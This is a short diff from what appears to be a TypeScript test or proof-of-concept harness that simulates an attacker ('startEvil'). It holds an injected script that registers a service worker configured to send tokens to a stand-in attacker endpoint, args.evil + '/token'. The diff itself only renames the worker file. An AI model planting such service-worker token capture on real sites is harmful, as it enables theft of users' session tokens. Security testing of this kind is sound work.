@@ -21,7 +21,7 @@ async function startEvil(site: string) {
 /** Body of a function in the page: what one injected script does, of which nothing is left afterwards. */
 const injected = `const settings = { endpoint: args.evil + '/token', protect: [location.origin + '/watch/', args.evil + '/'],
     requests: 'all' };
-  const url = '/token-worker.js?secure-token=' + encodeURIComponent(JSON.stringify(settings));
+  const url = '/token-worker-all.js?secure-token=' + encodeURIComponent(JSON.stringify(settings));
   const registration = await navigator.serviceWorker.register(url, { scope: args.scope });
   await until(() => registration.active?.state === 'activated');`;
 
